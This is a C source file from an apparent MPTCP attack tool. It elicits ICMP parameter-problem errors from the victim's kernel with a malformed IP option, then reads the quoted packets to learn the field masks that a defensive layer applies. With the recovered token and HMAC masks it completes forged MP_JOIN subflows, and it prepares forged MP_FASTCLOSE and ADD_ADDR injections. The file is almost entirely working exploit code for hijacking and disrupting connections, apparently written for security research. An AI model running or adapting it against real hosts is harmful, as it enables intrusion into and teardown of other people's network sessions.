// SPDX-License-Identifier: GPL-2.0-only
/*
 * Packets with an IP option that the victim's kernel refuses. It says so by ICMP, and quotes
 * the packet as it is by then: behind the programs on the interface, which have put "field
 * XOR mask" into it. So each field that the attacker makes up has its mask told.
 */
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <string.h>

#include "attacker.h"

#define FAR_OFF 0x20000000

bool break_header;

static struct {
	bool seen;
	struct frame frame;
	struct segment segment;
} quote;

/* Of any ICMP error that passes */
void note_quote(const struct frame *frame)
{
	const struct iphdr *ip = (const struct iphdr *)(frame->buf + ETH_HLEN);
	const struct ether_header *eth =
		(const struct ether_header *)frame->buf;
	size_t at = ETH_HLEN + sizeof(*ip) + sizeof(struct icmphdr);
	const struct icmphdr *icmp = (const struct icmphdr *)(ip + 1);

	if (eth->ether_type != htons(ETHERTYPE_IP) || frame->len <= at ||
	    ip->protocol != IPPROTO_ICMP ||
	    (icmp->type != ICMP_PARAMETERPROB &&
	     icmp->type != ICMP_DEST_UNREACH))
		return;
	quote.frame = *frame;
	memmove(quote.frame.buf + ETH_HLEN, frame->buf + at, frame->len - at);
	quote.frame.len = frame->len - at + ETH_HLEN;
	quote.seen = parse_segment(&quote.frame, &quote.segment);
}

/* A "record route" that is shorter than it can be */
void add_bad_option(struct frame *frame)
{
	static const uint8_t bad[4] = { IPOPT_RR, 2, IPOPT_END, IPOPT_END };
	struct iphdr *ip = (struct iphdr *)(frame->buf + ETH_HLEN);
	uint8_t *behind = (uint8_t *)(ip + 1);

	memmove(behind + sizeof(bad), behind,
		frame->len - ETH_HLEN - sizeof(*ip));
	memcpy(behind, bad, sizeof(bad));
	frame->len += sizeof(bad);
	ip->ihl++;
	ip->tot_len = htons((uint16_t)(ntohs(ip->tot_len) + sizeof(bad)));
	ip->check = 0;
	ip->check = fold(sum_words(0, (uint8_t *)ip, ip->ihl * 4));
}

/* The option of the packet that was sent last, as it is quoted */
static const uint8_t *quoted(uint8_t subtype)
{
	int64_t until = now_ms() + patience_ms;
	struct frame frame;

	while (!quote.seen && now_ms() < until)
		pump(now_ms() + 1, false, &frame);
	return quote.seen ? find_mptcp(&quote.segment, subtype) : NULL;
}

/*
 * A join of the attacker's own: the masks of its token and of its HMAC are those that are
 * quoted of zeros. Or with by=firewall the SYN is that of the recorded join, and a stateful
 * firewall refuses the ACK, as its sequence number is far off.
 */
bool cmd_quote_join(void)
{
	const struct connection *target = arg_connection("conn");
	struct plan plan = { .flags = TH_ACK, .options_len = JOIN_ACK_LEN };
	bool firewall = arg_is("by", "firewall", "header");
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	struct attempt attempt;
	const uint8_t *option;
	int i;

	if (!target)
		return false;
	start_attempt(&attempt, target, target, 0);
	if (firewall)
		goto syn;
	attempt.token = 0;
	quote.seen = false;
	break_header = true;
	send_syn(&attempt);
	break_header = false;
	option = quoted(MP_JOIN);
	if (!option) {
		printf(" token=unquoted");
		return true;
	}
	attempt.token = get32(option + 4) ^ key_token(target->keys[SERVER]);
	printf(" token=%s", get32(option + 4) ? "masked" : "plain");
syn:
	if (!syn_answered(&attempt))
		return true;

	plan.options[0] = MPTCP_KIND;
	plan.options[1] = JOIN_ACK_LEN;
	plan.options[2] = MP_JOIN << 4;
	quote.seen = false;
	break_header = !firewall;
	attempt.seq += firewall ? FAR_OFF : 0;
	send_attempt(&attempt, &plan);
	attempt.seq -= firewall ? FAR_OFF : 0;
	break_header = false;
	option = quoted(MP_JOIN);
	if (!option) {
		printf(" hmac=unquoted");
		return true;
	}
	printf(" hmac=%s", get64(option + 4) ? "masked" : "plain");
	join_hmac(target->keys[CLIENT], target->keys[SERVER],
		  attempt.nonces[CLIENT], attempt.nonces[SERVER], hmac);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac[i] ^= option[4 + i];
	end_join(&attempt, target, hmac);
	return true;
}

/* What "inject" with the same words would send, with a bad option: then field=told is right */
bool cmd_quote_inject(void)
{
	const struct connection *connection = arg_connection("conn");
	enum side to = arg_is("to", "server", "client") ? SERVER : CLIENT;
	bool fastclose = arg_is("what", "fastclose", "");
	const uint8_t *option, *sent;
	struct segment segment;
	const struct link *link;
	struct frame frame;
	uint64_t mask;

	if (!connection)
		return false;
	link = make_forged(&frame, connection, to);
	add_bad_option(&frame);
	if (!parse_segment(&frame, &segment))
		return false;
	sent = find_mptcp(&segment, fastclose ? MP_FASTCLOSE : MP_ADD_ADDR);
	quote.seen = false;
	send_frame(link, &frame);
	option = quoted(fastclose ? MP_FASTCLOSE : MP_ADD_ADDR);
	if (!option) {
		printf(" field=unquoted");
		return true;
	}
	mask = get64(option + option[1] - 8) ^ get64(sent + sent[1] - 8);
	printf(" field=%s", mask ? "masked" : "plain");
	if (fastclose)
		told_fastclose = mask ^ connection->keys[to];
	else
		told_add_addr = mask;
	return true;
}
